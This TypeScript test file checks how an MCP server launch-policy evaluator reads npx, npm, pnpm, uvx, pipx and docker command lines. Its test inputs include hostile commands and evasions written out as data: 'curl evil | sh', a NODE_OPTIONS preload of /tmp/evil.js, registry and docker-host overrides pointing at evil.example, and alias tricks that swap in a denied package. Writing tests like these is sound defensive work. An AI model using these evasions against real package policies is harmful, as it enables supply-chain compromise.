// The administrator's policy reads command lines as the launchers do: npx / npm exec / npm x (npm's
// own option table through nopt, npm-package-arg's specs and aliases), pnpm dlx, yarn dlx, bunx, uvx,
// `uv tool run`, `pipx run` and docker (its option table and image grammar), through the shell
// reader's wrappers. An entry is allowlisted only when what it runs is determined and matches; when it
// is not, a deny rule that might match denies, and the reason names the word.
import * as assert from 'node:assert/strict';
import type { EffectiveServer } from '../../src/core/config/types';
import { evaluatePolicy, parsePolicyFile, readLaunch, type Policy } from '../../src/core/policy';

const FILE = '/etc/mcp-switchboard/policy.json';

function server(command: string, args: string[], env: Record<string, string> = {}): EffectiveServer {
  return {
    name: 'srv', id: 'srv', scope: 'user', disabled: false, alwaysLoad: false, needsInput: [], needsTrust: false, fingerprint: 'ab'.repeat(32),
    launch: { type: 'stdio', command, args, env, headers: {} },
    source: { file: '/u/.mcp.json', line: 1, column: 1, endLine: 1, endColumn: 1, offset: 0, length: 0 },
  };
}

function policy(text: string): Policy {
  const read = parsePolicyFile(FILE, text);
  assert.deepEqual(read.problems, []);
  return read.policy;
}

const ONLY_MCP = policy('{ "onlyAllowlisted": true, "allowedServers": [{ "npm": "@modelcontextprotocol/*" }] }');
const verdict = (p: Policy, command: string, args: string[], env?: Record<string, string>, platform: NodeJS.Platform = 'linux') => evaluatePolicy(p, server(command, args, env), platform);
const allowed = (p: Policy, command: string, args: string[], env?: Record<string, string>, platform?: NodeJS.Platform): boolean => verdict(p, command, args, env, platform).verdict === 'allowed';

describe('policy: npx and npm exec read as npm reads them', () => {
  it('an option that takes a value is not the package: `npx -y --cache <allowed> evil-pkg` runs evil-pkg', () => {
    assert.equal(allowed(ONLY_MCP, 'npx', ['-y', '--cache', '@modelcontextprotocol/server-memory', 'evil-pkg']), false);
    assert.equal(allowed(ONLY_MCP, 'npx', ['-y', '--prefix', '@modelcontextprotocol/server-memory', 'evil-pkg']), false);
    assert.equal(allowed(ONLY_MCP, 'npx', ['--userconfig=/x', '-y', '@modelcontextprotocol/x', 'evil-pkg']), false);
    assert.deepEqual(readLaunch(server('npx', ['-y', '--cache', '@modelcontextprotocol/server-memory', 'evil-pkg']).launch).packages, [{ registry: 'npm', names: ['evil-pkg'] }]);
    // The allowed package itself, with options npm knows to be inert, still runs.
    assert.equal(allowed(ONLY_MCP, 'npx', ['-y', '--cache', '/tmp/c', '@modelcontextprotocol/server-memory@2025.1.1', '--flag']), true);
    assert.equal(allowed(ONLY_MCP, 'npx', ['--yes', '--loglevel=silent', '@modelcontextprotocol/server-memory']), true);
  });

  it('an alias runs the package it names: `npx <allowed>@npm:evil-pkg`', () => {
    assert.equal(allowed(ONLY_MCP, 'npx', ['-y', '@modelcontextprotocol/server-memory@npm:evil-pkg']), false);
    assert.equal(allowed(ONLY_MCP, 'npx', ['@modelcontextprotocol/x@npm:evil-pkg@1.0.0']), false);
    const deny = policy('{ "deniedServers": [{ "npm": "evil-pkg" }] }');
    assert.equal(verdict(deny, 'npx', ['-y', 'good@npm:evil-pkg@^2']).verdict, 'denied');
    assert.equal(allowed(ONLY_MCP, 'npx', ['-y', 'anything@npm:@modelcontextprotocol/server-memory']), true, 'an alias of an allowed package runs the allowed package');
  });

  it('npm exec, npm x and npm exe are npx; `-p` of npm is --parseable, not --package', () => {
    const deny = policy('{ "deniedServers": [{ "npm": "evil-pkg" }] }');
    for (const args of [['exec', 'evil-pkg'], ['x', '-y', 'evil-pkg'], ['exe', 'evil-pkg'], ['--yes', 'x', 'evil-pkg'], ['exec', '--package=evil-pkg', '--', 'evil-pkg']]) {
      assert.equal(verdict(deny, 'npm', args).verdict, 'denied', args.join(' '));
    }
    // `npm exec -p evil-pkg allowed`: nopt reads -p as --parseable, so evil-pkg is the package npm runs.
    assert.deepEqual(readLaunch(server('npm', ['exec', '-p', 'evil-pkg', '@modelcontextprotocol/x']).launch).packages, [{ registry: 'npm', names: ['evil-pkg'] }]);
    assert.equal(allowed(ONLY_MCP, 'npm', ['x', '-y', '@modelcontextprotocol/server-memory']), true);
    assert.equal(allowed(ONLY_MCP, 'npm', ['exec', '-p', 'evil-pkg', '@modelcontextprotocol/x']), false);
  });

  it('npm\'s boolean options, `--key=value`, clusters and abbreviations are read with nopt', () => {
    // `--yes=evil-pkg`: a boolean given a value leaves the value as an operand, so it is the package.
    assert.deepEqual(readLaunch(server('npx', ['--yes=evil-pkg', '@modelcontextprotocol/x']).launch).packages, [{ registry: 'npm', names: ['evil-pkg'] }]);
    // `-yq` is `--yes --loglevel warn`; npx takes the next word as its value, npm does not.
    assert.deepEqual(readLaunch(server('npx', ['-yq', '@modelcontextprotocol/x', 'arg']).launch).packages, [{ registry: 'npm', names: ['@modelcontextprotocol/x'] }]);
    // `--userconf` is npm's abbreviation of --userconfig: the word after it is its value, and it may name another registry.
    const abbreviated = readLaunch(server('npx', ['--userconf', '@modelcontextprotocol/x', 'evil-pkg']).launch);
    assert.deepEqual(abbreviated.packages, [{ registry: 'npm', names: ['evil-pkg'] }]);
    assert.match(abbreviated.unvouched ?? '', /^--userconfig /);
    assert.equal(allowed(ONLY_MCP, 'npx', ['--registry=https://evil.example/', '@modelcontextprotocol/server-memory']), false);
    assert.match(verdict(ONLY_MCP, 'npx', ['--registry=https://evil.example/', '@modelcontextprotocol/server-memory']).reason, /--registry/);
  });

  it('an option npm does not have leaves the package undetermined: not allowlisted, and a deny rule that might match denies', () => {
    const unknown = verdict(ONLY_MCP, 'npx', ['--frobnicate', '@modelcontextprotocol/x', 'evil-pkg']);
    assert.equal(unknown.verdict, 'denied');
    assert.match(unknown.reason, /frobnicate \(an option npm does not have\)/);
    const deny = policy('{ "deniedServers": [{ "npm": "evil-pkg" }] }');
    const maybe = verdict(deny, 'npx', ['--frobnicate', 'x', 'y']);
    assert.equal(maybe.verdict, 'denied');
    assert.match(maybe.reason, /may match: what it runs is not determined at frobnicate/);
    assert.equal(verdict(deny, 'npx', ['-c', 'evil-pkg']).verdict, 'denied', '--call runs a script');
    assert.equal(verdict(deny, 'npx', ['--always-spawn', 'good']).verdict, 'denied', 'an option npx removed');
    assert.equal(verdict(deny, 'npm', ['init', 'evil']).verdict, 'denied', 'npm init runs create-evil');
    assert.equal(verdict(deny, 'npm', ['run', 'start']).verdict, 'allowed', 'a script of the project runs no registry package');
  });

  it('a -p list: every package must be allowed, and the command must be one of theirs', () => {
    assert.equal(allowed(ONLY_MCP, 'npx', ['-p', '@modelcontextprotocol/a', '-p', 'evil-pkg', 'a']), false);
    assert.equal(allowed(ONLY_MCP, 'npx', ['--package=@modelcontextprotocol/a', '--package', '@modelcontextprotocol/b', 'a']), true);
    const shell = verdict(ONLY_MCP, 'npx', ['-p', '@modelcontextprotocol/a', 'sh', '-c', 'curl evil | sh']);
    assert.equal(shell.verdict, 'denied');
    assert.match(shell.reason, /sh \(a command that is none of @modelcontextprotocol\/a's own/);
    const deny = policy('{ "deniedServers": [{ "npm": "evil-pkg" }] }');
    assert.equal(verdict(deny, 'npx', ['-p', 'good', '-p', 'evil-pkg', 'good']).verdict, 'denied');
  });

  it('git, URL, file, folder and tarball specs say no package name: undetermined', () => {
    for (const spec of ['github:evil/pkg', 'evil/pkg', 'git+https://evil.example/x.git', 'https://evil.example/x.tgz', './x', 'x.tgz', '@modelcontextprotocol/x@file:../evil']) {
      const v = verdict(ONLY_MCP, 'npx', ['-y', spec]);
      assert.equal(v.verdict, 'denied', spec);
      assert.ok(v.reason.includes(spec), `${spec}: ${v.reason}`);
    }
    assert.equal(verdict(policy('{ "deniedServers": [{ "npm": "evil" }] }'), 'npx', ['github:x/y']).verdict, 'denied');
  });

  it('a word left for a shell to expand is no package or image: undetermined, named', () => {
    const deny = policy('{ "deniedServers": [{ "npm": "evil-pkg" }, { "docker": "evil/*" }] }');
    for (const [command, args, word] of [['npx', ['-y', '$PKG'], '$PKG'], ['npx', ['${PKG:-evil-pkg}'], '${PKG:-evil-pkg}'], ['docker', ['run', '-i', '$IMAGE'], '$IMAGE'], ['npx', ['-y', '@modelcontextprotocol/$X'], '@modelcontextprotocol/$X']] as const) {
      const v = verdict(deny, command, [...args]);
      assert.equal(v.verdict, 'denied', word);
      assert.ok(v.reason.includes(`may match: what it runs is not determined at ${word} (`), v.reason);
      assert.equal(allowed(ONLY_MCP, command, [...args]), false, word);
    }
  });
});

describe('policy: the other runners with their own option tables', () => {
  const deny = policy('{ "deniedServers": [{ "npm": "evil-pkg" }, { "pypi": "evil-py" }] }');
  it('pnpm dlx, pnpx, yarn dlx, bunx and bun x', () => {
    for (const [command, args] of [['pnpm', ['dlx', 'evil-pkg']], ['pnpx', ['evil-pkg@1']], ['yarn', ['dlx', '-q', 'evil-pkg']], ['bunx', ['--bun', 'evil-pkg']], ['bun', ['x', 'evil-pkg']], ['pnpm', ['dlx', '--package', 'evil-pkg', 'evil-pkg']], ['yarn', ['dlx', '-p', 'evil-pkg', 'evil-pkg']]] as const) {
      assert.equal(verdict(deny, command, [...args]).verdict, 'denied', `${command} ${args.join(' ')}`);
    }
    assert.equal(allowed(ONLY_MCP, 'pnpm', ['dlx', '@modelcontextprotocol/server-memory']), true);
    assert.equal(allowed(ONLY_MCP, 'bunx', ['-p', '@modelcontextprotocol/a', 'a']), true);
    assert.equal(allowed(ONLY_MCP, 'pnpm', ['dlx', '-c', '@modelcontextprotocol/a']), false, 'shell mode runs a script');
    assert.match(verdict(ONLY_MCP, 'yarn', ['dlx', '--quite', '@modelcontextprotocol/a']).reason, /--quite \(an option this reader does not know\)/);
    assert.equal(verdict(deny, 'pnpm', ['exec', 'evil-pkg']).verdict, 'denied', 'pnpm exec runs a command of the workspace');
  });

  it('uvx, uv tool run and pipx run; PyPI names compared normalised', () => {
    for (const [command, args] of [['uvx', ['evil-py']], ['uvx', ['Evil_Py==1.0']], ['uv', ['tool', 'run', 'evil.py']], ['uv', ['-q', 'tool', 'run', '--from', 'evil-py', 'evil-py']], ['uvx', ['--with', 'evil-py', 'good']], ['pipx', ['run', 'evil-py']], ['pipx', ['run', '--spec', 'evil-py', 'evil-py']]] as const) {
      assert.equal(verdict(deny, command, [...args]).verdict, 'denied', `${command} ${args.join(' ')}`);
    }
    const only = policy('{ "onlyAllowlisted": true, "allowedServers": [{ "pypi": "mcp-server-*" }] }');
    assert.equal(allowed(only, 'uvx', ['--from', 'mcp-server-fetch[extra]==1.0', 'mcp-server-fetch']), true);
    assert.equal(allowed(only, 'uvx', ['--python', '3.12', 'mcp_server_fetch@latest']), true);
    assert.equal(allowed(only, 'uvx', ['--python', './evil', 'mcp-server-fetch']), false);
    assert.equal(allowed(only, 'uvx', ['--from', 'mcp-server-fetch', 'python', '-c', 'evil']), false);
    assert.equal(allowed(only, 'uvx', ['--with', 'evil-py', 'mcp-server-fetch']), false);
    assert.equal(allowed(only, 'uvx', ['--index-url', 'https://evil.example/simple', 'mcp-server-fetch']), false);
    assert.equal(allowed(only, 'uvx', ['mcp-server-fetch @ https://evil.example/x.whl']), false);
    assert.match(verdict(only, 'uvx', ['--form', 'mcp-server-fetch', 'evil']).reason, /--form/);
  });
});

describe('policy: docker read with its option table and image grammar', () => {
  it('the image after docker run\'s options, by familiar and full name', () => {
    const dockerDeny = policy('{ "deniedServers": [{ "docker": "evil/*" }] }');
    for (const args of [['run', '-i', '--rm', 'evil/img'], ['run', '-e', 'X=1', '--name', 'mcp/fetch', 'evil/img:1'], ['container', 'run', '-it', 'docker.io/evil/img'], ['--log-level', 'warn', 'run', '-eX=1', 'evil/img@sha256:' + 'a'.repeat(64)], ['run', '--rm=true', '-v', '/a:/b', 'evil/img']]) {
      assert.equal(verdict(dockerDeny, 'docker', args).verdict, 'denied', args.join(' '));
    }
    const only = policy('{ "onlyAllowlisted": true, "allowedServers": [{ "docker": "mcp/*" }, { "docker": "ghcr.io/github/github-mcp-server" }] }');
    assert.equal(allowed(only, 'docker', ['run', '-i', '--rm', '-e', 'TOKEN', 'mcp/fetch']), true);
    assert.equal(allowed(only, 'docker', ['run', '-i', '--name', 'mcp/fetch', 'evil/img']), false);
    assert.equal(allowed(only, 'docker', ['run', '-i', 'ghcr.io/github/github-mcp-server:v1']), true);
    assert.equal(allowed(only, 'docker', ['run', '--entrypoint', '/w/evil', 'mcp/fetch']), false);
    assert.equal(allowed(only, 'docker', ['-H', 'tcp://evil.example:2375', 'run', 'mcp/fetch']), false);
    assert.match(verdict(only, 'docker', ['run', '--frob', 'mcp/fetch']).reason, /--frob \(an option this reader does not know\)/);
    assert.match(verdict(only, 'docker', ['run', 'MCP/Fetch']).reason, /MCP\/Fetch \(not an image reference/);
    assert.match(verdict(only, 'docker', ['compose', 'up']).reason, /docker compose up/);
  });

  it('a command rule sees through env, cmd /c, suffixes, paths and Windows case', () => {
    const deny = policy('{ "deniedServers": [{ "command": "docker" }] }');
    for (const [command, args] of [['env', ['docker', 'run', 'x']], ['docker.exe', ['run', 'x']], ['DOCKER.EXE', ['run', 'x']], ['C:\\Program Files\\Docker\\docker.exe', ['run', 'x']], ['/usr/bin/docker', ['run', 'x']], ['env', ['-i', 'A=1', 'docker', 'ps']], ['cmd', ['/c', 'docker', 'run', 'x']], ['CMD.EXE', ['/C', 'Docker.exe', 'run', 'x']], ['timeout', ['10', 'docker', 'run', 'x']], ['env', ['-', 'docker']]] as const) {
      assert.equal(verdict(deny, command, [...args]).verdict, 'denied', `${command} ${args.join(' ')}`);
    }
  });
});

describe('policy: wrappers before a runner', () => {
  it('env with options and assignments, cmd /c, .cmd and paths reach the runner', () => {
    assert.equal(allowed(ONLY_MCP, 'env', ['-u', 'X', 'A=1', 'npx', '-y', '@modelcontextprotocol/x']), true);
    assert.equal(allowed(ONLY_MCP, 'env', ['npx', '-y', 'evil-pkg']), false);
    assert.equal(allowed(ONLY_MCP, 'cmd', ['/c', 'npx', '-y', 'evil-pkg']), false);
    assert.equal(allowed(ONLY_MCP, 'C:\\Program Files\\nodejs\\npx.cmd', ['-y', '@modelcontextprotocol/x']), true);
    assert.equal(allowed(ONLY_MCP, 'NPX.CMD', ['-y', 'evil-pkg']), false);
    assert.equal(allowed(ONLY_MCP, '/usr/bin/npx', ['-y', '@modelcontextprotocol/x']), true);
    const deny = policy('{ "deniedServers": [{ "npm": "evil-pkg" }] }');
    assert.equal(verdict(deny, 'C:\\Users\\me\\AppData\\npx.CMD', ['evil-pkg']).verdict, 'denied');
  });

  it('what a wrapper does not say, or a file outside the system folders, is not allowlisted, naming why', () => {
    const split = verdict(ONLY_MCP, 'env', ['-S', 'npx -y evil-pkg']);
    assert.equal(split.verdict, 'denied');
    assert.match(split.reason, /env -S/);
    assert.match(verdict(ONLY_MCP, 'env', ['--chd=/tmp', 'npx', '@modelcontextprotocol/x']).reason, /env --chdir \(runs the command in another folder\)/);
    assert.match(verdict(ONLY_MCP, 'cmd', ['/c', 'npx @modelcontextprotocol/x & evil']).reason, /a word cmd reads again/);
    assert.match(verdict(ONLY_MCP, '/tmp/x/npx', ['-y', '@modelcontextprotocol/x']).reason, /\/tmp\/x\/npx \(a file outside the system's folders/);
    assert.match(verdict(ONLY_MCP, 'env', ['NPM_CONFIG_REGISTRY=https://evil.example', 'npx', '@modelcontextprotocol/x']).reason, /NPM_CONFIG_REGISTRY/);
    assert.match(verdict(ONLY_MCP, 'npx', ['@modelcontextprotocol/x'], { NODE_OPTIONS: '--require /tmp/evil.js' }).reason, /NODE_OPTIONS/);
    assert.match(verdict(ONLY_MCP, 'sudo', ['npx', '@modelcontextprotocol/x']).reason, /sudo/);
    const deny = policy('{ "deniedServers": [{ "npm": "evil-pkg" }] }');
    assert.equal(verdict(deny, 'bash', ['-c', 'npx evil-pkg']).verdict, 'denied', 'a shell\'s script is not read, so a deny rule may match');
    assert.equal(verdict(deny, 'node', ['server.js']).verdict, 'allowed', 'a program that is no runner runs no package');
  });
});
